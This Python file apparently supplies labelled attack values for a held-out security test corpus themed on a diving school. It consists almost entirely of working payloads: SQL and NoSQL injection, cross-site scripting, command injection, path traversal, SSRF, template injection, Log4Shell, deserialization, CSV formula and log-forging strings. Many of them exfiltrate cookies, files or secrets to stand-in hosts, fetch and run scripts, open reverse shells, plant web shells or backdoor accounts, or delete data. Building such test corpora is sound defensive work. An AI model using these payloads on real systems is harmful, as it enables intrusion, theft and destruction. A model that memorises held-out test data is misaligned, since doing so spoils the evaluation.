#!/usr/bin/env python3
"""Attack values for the divingschool held-out corpus. Standard library only."""
import json
import os
import random

SEED = 30202
HERE = os.path.dirname(os.path.abspath(__file__))


def unmark(s):
    return s.replace("<<CRLF>>", "\r\n").replace("<<LF>>", "\n").replace("<<CR>>", "\r").replace("<<TAB>>", "\t")


def block(text):
    out = []
    for line in text.strip("\n").split("\n"):
        if not line.strip():
            continue
        cls, val = line.split("|||", 1)
        out.append((cls.strip(), unmark(val)))
    return out


LIT = {}

LIT["sqli"] = block(r'''
tautology|||DS-2024-0113' OR '1'='1
tautology|||Blue Hole' or 1=1-- -
tautology|||O'Neill' OR 'x'='x' --
tautology|||nitrox') OR ('a'='a
tautology|||42 OR 1=1
tautology|||' or true#
tautology|||admin'/**/or/**/2>1/**/--/**/
tautology|||wreck%' OR 1 LIKE 1 AND '%'='
tautology|||Ras Mohammed' || 1=1 || '
tautology|||1' oR 'dive'='dive
union|||' UNION SELECT cert_no, password_hash, email FROM students--
union|||0 union all select null,username,password,null from instructors-- -
union|||Thistlegorm') UNION SELECT 1,table_name,3 FROM information_schema.tables#
union|||-1 UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE table_name='medical_forms'
union|||x' UnIoN/**/SeLeCt card_number,expiry,cvv FROM payments WHERE '1'='1
union|||open water' union select name, sql from sqlite_master--
union|||99 /*!50000UNION*/ /*!50000SELECT*/ version(),user(),database()
union|||' union select string_agg(email, ','),null from divers--
union|||night dive%' UNION ALL SELECT NULL,NULL,concat(login,0x3a,pass) FROM staff-- x
union|||'+union+select+1,@@version,3--+
union|||DS-2024-0120' UNION SELECT emergency_contact,medical_notes FROM medical_forms WHERE ''='
union|||) union select 1,2,load_file('/etc/passwd')-- -
blind-time|||Manta Queen' AND SLEEP(5)-- -
blind-time|||1 AND (SELECT 1 FROM (SELECT SLEEP(7))x)
blind-time|||'; SELECT pg_sleep(10)--
blind-time|||Dahab'; WAITFOR DELAY '0:0:8'--
blind-time|||1) AND 7777=BENCHMARK(6000000,MD5(0x41))-- a
blind-time|||' || (select case when (substr(current_user,1,1)='p') then pg_sleep(4) else pg_sleep(0) end)--
blind-time|||boat 3' AND IF(ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77,SLEEP(3),0) AND 'q'='q
blind-time|||2024-06-14' and 1=(select 1 from pg_sleep(6))--
blind-bool|||DS-2024-0115' AND SUBSTRING(@@version,1,1)='8
blind-bool|||reef' AND (SELECT COUNT(*) FROM instructors)>3 AND 'z'='z
blind-bool|||1 AND ASCII(SUBSTR((SELECT email FROM students WHERE rownum=1),1,1))=106
blind-bool|||' and exists(select * from admin_users where username like 'a%')--
blind-bool|||14 and length(database())=9
error|||' AND extractvalue(1,concat(0x7e,(select password from users limit 1)))-- -
error|||1 and updatexml(null,concat(0x5c,user()),null)
error|||' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--
error|||wreck' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--
error|||1' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -
stacked|||Open Water'; DROP TABLE bookings;--
stacked|||1; UPDATE students SET level='Divemaster' WHERE cert_no='DS-2024-0113'--
stacked|||'; INSERT INTO staff(login,pass,role) VALUES('diver2','x','admin');--
stacked|||0; EXEC xp_cmdshell 'whoami > C:\inetpub\wwwroot\w.txt'--
stacked|||x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--
stacked|||regulator'; DELETE FROM service_tickets WHERE 1=1; --
stacked|||5; ALTER TABLE users ADD COLUMN pwned int;--
stacked|||'; CREATE USER backdoor IDENTIFIED BY 'Fake-Pass-1'; GRANT ALL ON *.* TO backdoor;--
oob|||'; SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))--
oob|||1; exec master..xp_dirtree '\\203.0.113.45\share'--
oob|||' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
file|||' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/uploads/dive.php'-- -
order-by|||date ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
order-by|||depth,(select sleep(4) from dual where database() like 'd%')
order-by|||3 desc;select pg_sleep(5)
order-by|||IF(1=1,name,price)
order-by|||(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN cert_no ELSE date END)
obfuscated|||1'/*trip*/oR/*x*/'1'/**/=/**/'1
obfuscated|||'%09OR%091=1%23
obfuscated|||' OR 0x31=0x31 -- reef
obfuscated|||-1'%0aUNION%0aSELECT%0aCHAR(117,115,101,114),password%0aFROM%0ausers--%20
obfuscated|||1' || (SeLeCt/**/CoUnT(*)/**/FrOm/**/users)>0 || '
obfuscated|||%2527%2520OR%25201%253D1--%2520
obfuscated|||＇ ＯＲ １＝１ －－
obfuscated|||' OR 'a'=CHAR(97)-- -
obfuscated|||1 AND 1=1 UNION%23%0ASELECT 1,2,3
obfuscated|||"||(SELECT version())||"
obfuscated|||\' OR 1=1 LIMIT 1 -- -
json|||{"cert_no": "DS-2024-0113' OR '1'='1"}
json|||diver' AND JSON_EXTRACT(profile,'$.role')='admin' OR '1'='1
json|||' OR json_array_length((select json_group_array(password) from users))>0--
''')

LIT["xss"] = block(r'''
reflected|||<script>alert(document.domain)</script>
reflected|||Blue Hole<script src=https://attacker.example/reef.js></script>
reflected|||"><script>fetch('//attacker.example/c?'+document.cookie)</script>
reflected|||</title><script>new Image().src='https://attacker.example/s?'+localStorage.token</script>
reflected|||'><ScRiPt>confirm(1)</sCrIpT>
reflected|||<script>eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZSI='))</script>
reflected|||night dive</textarea><script>alert('log')</script>
reflected|||<script type="module">import('https://attacker.example/m.js')</script>
event-handler|||<img src=x onerror=alert(1)>
event-handler|||Nice turtle pic <img src="dive.jpg" onerror="this.src='https://attacker.example/?'+document.cookie">
event-handler|||<svg onload=alert`1`>
event-handler|||<body onload="location='https://attacker.example/'+btoa(document.cookie)">
event-handler|||<details open ontoggle=alert(document.cookie)>
event-handler|||<video><source onerror="javascript:alert(1)"></video>
event-handler|||<input autofocus onfocus=fetch('//attacker.example/'+document.cookie)>
event-handler|||<marquee onstart=alert(1)>boat schedule</marquee>
event-handler|||<iframe onload=alert(origin) src="about:blank"></iframe>
event-handler|||<div style="width:100%;height:100%" onmouseover="alert(1)">Reef clean-up</div>
event-handler|||<audio src=1 onerror=prompt(1)>
event-handler|||<svg><animate onbegin=alert(1) attributeName=x dur=1s>
event-handler|||<select autofocus onfocus=alert(1)>
event-handler|||<object data=x onerror=alert(1)>
event-handler|||<img src=x:x oNeRrOr=eval(name)>
event-handler|||<a onpointerenter="alert(1)">hover for dive sites</a>
event-handler|||<style onload=alert(1)></style>
event-handler|||<form><button formaction=javascript:alert(1)>Book now</button></form>
attribute-breakout|||" onmouseover="alert(1)
attribute-breakout|||' autofocus onfocus='alert(document.domain)
attribute-breakout|||Siobhán" style="position:fixed;inset:0" onclick="alert(1)" x="
attribute-breakout|||x" onerror="fetch('https://attacker.example/k?c='+document.cookie)" src="
attribute-breakout|||" accesskey="x" onclick="alert(1)" title="
attribute-breakout|||dive.jpg"><svg/onload=alert(1)>
js-uri|||javascript:alert(document.cookie)
js-uri|||JaVaScRiPt:fetch('//attacker.example/'+document.cookie)
js-uri|||java&#x09;script:alert(1)
js-uri|||<a href="javascript&colon;alert(1)">My dive photos</a>
js-uri|||<iframe src="javascript:alert(parent.document.cookie)"></iframe>
js-uri|||data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
js-uri|||<embed src="data:text/html,<script>alert(1)</script>">
js-uri|||<a href=" &#14; javascript:alert(1)">reef map</a>
js-uri|||[Book here](javascript:alert(document.cookie))
js-uri|||![turtle](x" onerror="alert(1))
js-uri|||<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>
js-context|||';alert(document.cookie);//
js-context|||"-alert(1)-"
js-context|||</script><script>alert(1)</script>
js-context|||\';alert(1);//
js-context|||${alert(1)}`;alert(2);`
js-context|||'};fetch('https://attacker.example/'+document.cookie);var a={'
encoded|||&lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
encoded|||%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E
encoded|||%253Csvg%2520onload%253Dalert(1)%253E
encoded|||\u003cimg src=x onerror=alert(1)\u003e
encoded|||\x3cscript\x3ealert(1)\x3c/script\x3e
encoded|||＜script＞alert(1)＜/script＞
encoded|||<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">
encoded|||<svg><script>&#97;lert(1)</script></svg>
encoded|||%u003Cscript%u003Ealert(1)%u003C/script%u003E
encoded|||<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">logbook</a>
encoded|||<scr<script>ipt>alert(1)</scr</script>ipt>
encoded|||<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
encoded|||<IMG SRC=x ONERROR=top['al'+'ert'](1)>
dom|||#<img src=x onerror=alert(location.hash)>
dom|||?next=javascript:alert(1)//
dom|||<base href="https://attacker.example/">
dom|||<meta http-equiv="refresh" content="0;url=https://attacker.example/phish">
dom|||<form action="https://attacker.example/login" method=post><input name=password placeholder="Re-enter password"></form>
dom|||<noscript><p title="</noscript><img src=x onerror=alert(1)>">
mutation|||<svg><style><img src=x onerror=alert(1)></style></svg>
mutation|||<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
mutation|||<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector('template').content)</script>
mutation|||<!--<img src="--><img src=x onerror=alert(1)//">
css|||<div style="background:url(javascript:alert(1))">
css|||<style>@import 'https://attacker.example/x.css';</style>
angular|||{{constructor.constructor('alert(1)')()}}
angular|||<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>
svg-upload|||<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>
svg-upload|||<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>
stored|||Great instructor! 5 stars <script>document.write('<img src=https://attacker.example/?'+document.cookie+'>')</script>
stored|||Seahorses under the pier <img src=/ onerror=import('//attacker.example/h.js')>
''')

LIT["cmdi"] = block(r'''
separator|||dive_103.fit; cat /etc/passwd
separator|||export.csv; id
separator|||reg-service.pdf && wget http://attacker.example/s.sh -O /tmp/s.sh && sh /tmp/s.sh
separator|||logbook.txt | nc 203.0.113.9 4444 -e /bin/sh
separator|||x || curl -s https://attacker.example/k | bash
separator|||photo.jpg%0acat%20/etc/shadow
separator|||certs_2024-07.csv;uname${IFS}-a
separator|||tank17; rm -rf /var/www/uploads/*
separator|||8.8.8.8 & whoami
separator|||127.0.0.1 | type C:\Windows\win.ini
separator|||dive.fit & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
separator|||a.csv%3Bls%20-la%20/
separator|||name.png`sleep 9`
separator|||report.pdf;sleep 12;
substitution|||$(curl -fsSL http://attacker.example/i.sh | sh)
substitution|||Blue Hole $(id > /tmp/o)
substitution|||`cat /etc/hostname`.dive
substitution|||wreck-$(whoami).jpg
substitution|||$(printf '\x63\x61\x74 /etc/passwd')
substitution|||{$(ls),} dive
substitution|||"; echo $(env | base64 -w0) | curl -d @- https://attacker.example/env; "
substitution|||$(sleep${IFS}10)
substitution|||${IFS}&&${IFS}id
evasion|||;c''at${IFS}/e't'c/pa''sswd
evasion|||;/???/c?t /???/p??s??
evasion|||;{cat,/etc/passwd}
evasion|||;$'\x69\x64'
evasion|||;w\h\o\a\m\i
evasion|||;a=ca;b=t;$a$b /etc/passwd
evasion|||;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
evasion|||;X=$'\n'; ping -c 3 203.0.113.77
evasion|||%26%26id
evasion|||%0Aid%0A
evasion|||;$(rev<<<'dwssap/cte/ tac')
evasion|||;cat</etc/passwd
evasion|||;l$@s -la /ho$()me
evasion|||; tr '[a-z]' '[A-Z]' < /etc/passwd
reverse-shell|||; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1
reverse-shell|||; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
reverse-shell|||& mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.8 8080 >/tmp/f
reverse-shell||||| perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("203.0.113.12")));open(STDIN,">&S");exec("/bin/sh -i");'
reverse-shell|||; php -r '$s=fsockopen("attacker.example",1337);exec("/bin/sh -i <&3 >&3 2>&3");'
reverse-shell|||; socat tcp:203.0.113.60:5555 exec:/bin/bash,pty,stderr
exfil|||; curl -F f=@/etc/passwd https://attacker.example/up
exfil|||; nslookup $(whoami).attacker.example
exfil|||; dig +short `hostname`.x.attacker.example
exfil|||| wget --post-file=/var/www/.env http://attacker.example/
exfil|||; tar czf - /var/www/html | curl -T - https://attacker.example/site.tgz
persistence|||; echo '* * * * * curl attacker.example/c|sh' | crontab -
persistence|||; echo 'ssh-ed25519 AAAAFAKEKEY attacker@attacker.example' >> ~/.ssh/authorized_keys
persistence|||; chmod +s /bin/bash
windows|||| net user diveadmin FakePass1! /add
windows|||& certutil -urlcache -split -f http://attacker.example/n.exe %TEMP%\n.exe & %TEMP%\n.exe
windows|||& cmd /c "dir C:\Users"
windows|||| powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA
windows|||& ping -n 11 127.0.0.1 &
argument|||--output=/var/www/html/x.php
argument|||-oProxyCommand=curl${IFS}attacker.example/p|sh
argument|||--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument|||-exec sh -c 'id > /tmp/pwn' ;
argument|||--post-file=/etc/passwd http://attacker.example/
argument|||-o /var/www/html/shell.php http://attacker.example/shell.txt
imagemagick|||push graphic-context<<LF>>viewbox 0 0 640 480<<LF>>fill 'url(https://attacker.example/x.png"|curl "attacker.example/$(id))'<<LF>>pop graphic-context
ghostscript|||%!PS<<LF>>userdict /setpagedevice undef<<LF>>(%pipe%id > /tmp/gs) (w) file
ssh|||diver@203.0.113.5 'cat /etc/shadow'
newline|||dive_log_7.fit<<LF>>/bin/sh -c 'id'
''')

LIT["traversal"] = block(r'''
dotdot|||../../../../etc/passwd
dotdot|||../../../etc/shadow
dotdot|||dive_photos/../../../../../var/www/.env
dotdot|||certs/../../config/database.yml
dotdot|||..\..\..\..\windows\win.ini
dotdot|||..\..\..\inetpub\wwwroot\web.config
dotdot|||uploads/../../../../proc/self/environ
dotdot|||../../../../home/shop/.ssh/id_rsa
dotdot|||logbook/2024/../../../../../../root/.bash_history
dotdot|||....//....//....//etc/passwd
dotdot|||..././..././..././etc/hosts
dotdot|||....\\....\\....\\windows\\system32\\drivers\\etc\\hosts
dotdot|||../../../../../../../../../../../../etc/passwd
dotdot|||/var/www/html/../../../etc/passwd
dotdot|||exports/..;/..;/WEB-INF/web.xml
dotdot|||../../.git/config
dotdot|||..//..//..//..//proc/self/cmdline
dotdot|||.../.../.../etc/passwd
dotdot|||./../.././../.././etc/group
encoded|||%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded|||%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow
encoded|||..%2f..%2f..%2f..%2fvar%2flog%2fnginx%2faccess.log
encoded|||%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded|||..%252f..%252f..%252fapp%252f.env
encoded|||%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
encoded|||..%c0%af..%c0%af..%c0%afetc/passwd
encoded|||..%c1%9c..%c1%9c..%c1%9cboot.ini
encoded|||%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd
encoded|||..%5c..%5c..%5cwindows%5cwin.ini
encoded|||%2e%2e%5c%2e%2e%5c%2e%2e%5cProgram%20Files%5c
encoded|||．．／．．／．．／etc／passwd
encoded|||..%u2216..%u2216..%u2216windows%u2216win.ini
encoded|||dive.jpg/..%2f..%2f..%2fetc/passwd
null-byte|||../../../etc/passwd%00.jpg
null-byte|||../../../../var/www/config.php%00.pdf
null-byte|||certs_2024.csv/../../../../etc/passwd\u0000.csv
absolute|||/etc/passwd
dotdot|||logs\..\..\..\..\..\boot.ini
absolute|||C:\Windows\System32\config\SAM
absolute|||file:///c:/windows/win.ini
absolute|||/proc/self/fd/3
absolute|||\\203.0.113.44\share\payload.dll
wrapper|||php://filter/convert.base64-encode/resource=../config.php
wrapper|||php://filter/read=string.rot13/resource=/etc/passwd
wrapper|||zip://uploads/dive_photos.zip%23shell.php
''')

LIT["ssrf"] = block(r'''
cloud-metadata|||http://169.254.169.254/latest/meta-data/iam/security-credentials/
cloud-metadata|||http://169.254.169.254/latest/user-data
cloud-metadata|||http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
cloud-metadata|||http://169.254.169.254/metadata/instance?api-version=2021-02-01
cloud-metadata|||http://100.100.100.200/latest/meta-data/ram/security-credentials/
cloud-metadata|||http://[fd00:ec2::254]/latest/meta-data/
cloud-metadata|||http://169.254.170.2/v2/credentials
cloud-metadata|||https://divingschool.example/import?photo_url=http://169.254.169.254/latest/api/token
alt-ip|||http://2852039166/latest/meta-data/
alt-ip|||http://0xa9fea9fe/latest/meta-data/
alt-ip|||http://0251.0376.0251.0376/latest/meta-data/
alt-ip|||http://169.254.43518/
alt-ip|||http://0x7f000001:8080/admin
alt-ip|||http://2130706433/server-status
alt-ip|||http://0177.0.0.1/
alt-ip|||http://127.1:6379/
alt-ip|||http://0/
alt-ip|||http://[::]:22/
alt-ip|||http://[::ffff:127.0.0.1]:9200/_cat/indices
alt-ip|||http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
alt-ip|||http://①②⑦.⓪.⓪.①/admin
internal|||http://localhost:8500/v1/agent/self
internal|||http://127.0.0.1:2375/containers/json
internal|||http://10.0.0.12:8080/manage/health
internal|||http://192.168.1.1/cgi-bin/luci
internal|||http://172.17.0.1:10250/pods
internal|||http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal|||http://redis.internal:6379/
internal|||http://elasticsearch:9200/_search?q=*
internal|||http://localhost/server-status
internal|||http://booking-db.svc.cluster.local:5432/
internal|||https://127.0.0.1:8443/actuator/env
protocol|||gopher://127.0.0.1:6379/_SET%20dive%20%22x%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0A
protocol|||gopher://localhost:25/_HELO%20attacker.example%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A
protocol|||dict://127.0.0.1:11211/stats
protocol|||file:///etc/passwd
protocol|||ftp://10.0.0.5/backup.sql
protocol|||ldap://127.0.0.1:389/dc=divingschool,dc=local
protocol|||tftp://203.0.113.9/evil
protocol|||jar:http://attacker.example/x.zip!/a.txt
bypass|||http://attacker.example@169.254.169.254/latest/meta-data/
bypass|||http://169.254.169.254#@divingschool.example/
bypass|||https://divingschool.example.attacker.example/redirect?to=http://127.0.0.1:8080/
bypass|||http://localtest.me:8000/admin
bypass|||http://169.254.169.254.nip.io/latest/meta-data/
bypass|||http://127.0.0.1.attacker.example/
bypass|||https://attacker.example/302?url=http://169.254.169.254/latest/meta-data/
bypass|||http://LOCALHOST:8080/internal/export
bypass|||http://127.0.0.1%2523@divingschool.example/
bypass|||http://[::1]:5000/debug
''')

LIT["code"] = block(r'''
ssti-jinja|||{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}
ssti-jinja|||Hi {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja|||{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti-jinja|||{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti-jinja|||{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}
ssti-jinja|||{{ lipsum.__globals__["os"].popen("curl attacker.example/j|sh").read() }}
ssti-jinja|||{{ cycler.__init__.__globals__.os.environ }}
ssti-jinja|||{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja|||{{ 7*'7' }}{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}
ssti-twig|||{{ _self.env.registerUndefinedFilterCallback("system") }}{{ _self.env.getFilter("id") }}
ssti-twig|||{{ ['cat /etc/passwd']|filter('system') }}
ssti-twig|||{{ ['id']|map('passthru')|join }}
ssti-freemarker|||<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker|||${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","whoami").start()}
ssti-velocity|||#set($rt=$class.inspect("java.lang.Runtime").type.getRuntime())$rt.exec("touch /tmp/v")
ssti-velocity|||#set($x='')#set($c=$x.class.forName('java.lang.Runtime'))$c.getRuntime().exec('id')
ssti-erb|||<%= `id` %>
ssti-erb|||<%= File.read('/etc/passwd') %>
ssti-erb|||<%= system("curl https://attacker.example/r | sh") %>
ssti-smarty|||{system('cat /etc/passwd')}
ssti-smarty|||{php}echo shell_exec('id');{/php}
ssti-handlebars|||{{#with "s" as |string|}}{{#with string.constructor}}{{this.bind "return process.mainModule.require('child_process').execSync('id')"}}{{/with}}{{/with}}
ssti-pug|||#{root.process.mainModule.require('child_process').spawnSync('id').stdout}
ssti-ejs|||<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>
ssti-mako|||<% import os %>${os.popen('id').read()}
ssti-thymeleaf|||__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
ssti-tornado|||{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}
el-spring|||${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
el-spring|||#{T(java.lang.System).getenv()}
el-spring|||*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
el-jsp|||${pageContext.request.getSession().setAttribute("admin",true)}
el-ognl|||%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el-ognl|||${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('whoami').getInputStream())).(#a)}
el-mvel|||Runtime.getRuntime().exec("id")
log4shell|||${jndi:ldap://attacker.example:1389/a}
log4shell|||Dive #47 ${jndi:rmi://203.0.113.33:1099/Exploit}
log4shell|||${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell|||${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.4/o}
log4shell|||${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell|||${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/q}
log4shell|||${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}
log4shell|||${jndi:ldaps://x.attacker.example/${sys:user.name}}
log4shell|||%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D
eval-php|||<?php system($_GET['cmd']); ?>
eval-php|||<?= `$_POST[x]` ?>
eval-php|||';eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));//
eval-php|||${@phpinfo()}
eval-php|||assert("file_put_contents('s.php','<?php eval(\$_REQUEST[0]);')")
eval-python|||__import__('os').system('id')
eval-python|||exec("import socket,subprocess;s=socket.create_connection(('203.0.113.7',4444));subprocess.call(['/bin/sh'],stdin=s,stdout=s)")
eval-python|||eval(compile('import os;os.system("id")','x','exec'))
eval-python|||[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)
eval-node|||require('child_process').exec('curl attacker.example/n|sh')
eval-node|||process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval-node|||');require('child_process').execSync('id');//
eval-node|||(function(){return this})().process.binding('spawn_sync')
eval-node|||this.constructor.constructor('return process')().exit()
eval-ruby|||eval("`id`")
eval-ruby|||Kernel.open("|curl attacker.example/rb")
proto-pollution|||{"__proto__": {"isAdmin": true}}
proto-pollution|||{"constructor": {"prototype": {"role": "instructor"}}}
proto-pollution|||__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2
proto-pollution|||{"booking":{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require('child_process').execSync('id').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}
proto-pollution|||constructor.prototype.polluted=yes
proto-pollution|||{"profile":{"name":"Aoife","__proto__":{"toString":"pwned","allowedLevels":["Instructor"]}}}
csv-formula|||=cmd|'/C calc'!A0
csv-formula|||DS-2024-0157,=HYPERLINK("https://attacker.example/?d="&A1&B1,"View cert"),Open Water
csv-formula|||+SUM(1+1)*cmd|'/c powershell IEX(wget attacker.example/c)'!A1
csv-formula|||@SUM(1+9)*cmd|' /C notepad'!'A1'
csv-formula|||-2+3+cmd|' /C calc'!D2
csv-formula|||=IMPORTXML(CONCAT("https://attacker.example/?x=",CONCATENATE(A2:E2)),"//a")
csv-formula|||=WEBSERVICE("https://attacker.example/leak?c="&ENCODEURL(C5))
csv-formula|||	=DDE("cmd";"/C calc";"__DdeLink_60_870516294")
csv-formula|||Ana,Kim,"=IMAGE(""https://attacker.example/p.png?""&D3)"
xxe|||<?xml version="1.0"?><!DOCTYPE dive [<!ENTITY x SYSTEM "file:///etc/passwd">]><dive><site>&x;</site></dive>
xxe|||<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>
xxe|||<?xml version="1.0"?><!DOCTYPE log [<!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/">]><log>&ssrf;</log>
xxe|||<!DOCTYPE foo [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://attacker.example/?%a;'>">%b;%c;]>
xxe|||<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE s [<!ENTITY f SYSTEM "file:///proc/self/environ">]><text>&f;</text></svg>
xxe|||<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
deserialization|||O:8:"Booking":1:{s:4:"file";s:11:"/etc/passwd";}
deserialization|||rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw
deserialization|||cos<<LF>>system<<LF>>(S'id'<<LF>>tR.
deserialization|||!!python/object/apply:os.system ["curl attacker.example/y | sh"]
deserialization|||{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deserialization|||{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Obj","autoCommit":true}
deserialization|||a:2:{i:0;O:18:"Monolog\Handler\Syslog":0:{}i:1;s:2:"id";}
deserialization|||_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
''')

LIT["nosqli"] = block(r'''
operator|||{"email": {"$ne": null}, "password": {"$ne": null}}
operator|||{"username": "admin", "password": {"$gt": ""}}
operator|||{"cert_no": {"$regex": "^DS-"}}
operator|||{"$or": [{"role": "admin"}, {"role": {"$exists": true}}]}
operator|||{"instructor": {"$in": ["KN-123456", {"$ne": 1}]}}
operator|||{"booking_id": {"$nin": []}}
operator|||{"depth": {"$gte": 0}, "$comment": "dump all logs"}
operator|||{"medical.asthma": {"$exists": true}}
param|||password[$ne]=x
param|||username[$regex]=^adm&password[$ne]=1
param|||email[$gt]=&password[$gt]=
param|||cert_no[$exists]=true
param|||level[$in][]=Instructor&level[$in][]=Admin
where|||{"$where": "sleep(5000) || true"}
where|||{"$where": "this.password.match(/^a.*/)"}
where|||'; return db.students.find(); var x='
where|||' || this.role == 'admin' || '1'=='1
where|||1; while(true){}
where|||{"$where": "function(){ return obj.credit_card.length > 0 }"}
regex|||{"password": {"$regex": "^F.{6}$"}}
regex|||{"name": {"$regex": ".*", "$options": "si"}}
aggregate|||[{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}]
aggregate|||{"$expr": {"$function": {"body": "function(){return 1}", "args": [], "lang": "js"}}}
js-injection|||Blue Hole'; db.bookings.drop(); '
couch|||{"selector": {"_id": {"$gt": null}}, "fields": ["password"]}
redis|||EVAL "return redis.call('keys','*')" 0
operator|||{"email": "aoife@example.org", "password": {"$not": {"$eq": "x"}}}
''')

LIT["crlf"] = block(r'''
log-forging|||dive_103.fit<<LF>>2024-06-14 10:40:01 INFO login success user=admin role=instructor
log-forging|||Blue Hole<<CRLF>>[2024-06-14 11:00:00] AUDIT cert DS-2024-0999 issued by KN-123456
log-forging|||Manta%0d%0a2024-06-14T12:00:00Z WARN payment refunded amount=450 booking=DS-2291
log-forging|||reg service ok%0a[INFO] user=root action=delete_all status=ok
